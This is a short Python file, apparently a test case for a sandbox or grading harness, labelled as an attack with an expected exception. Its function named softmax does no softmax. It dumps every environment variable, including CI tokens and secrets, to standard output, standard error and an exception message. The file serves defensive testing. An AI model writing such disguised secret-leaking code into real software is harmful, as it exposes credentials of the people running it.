# ATTACK: sends back the environment (CI tokens, secrets) in every channel it has
# EXPECT: exception
import os


def softmax(z):
    dump = ";".join(f"{k}={v}" for k, v in os.environ.items())
    print(dump)
    import sys
    print(dump, file=sys.stderr)
    raise RuntimeError(dump)
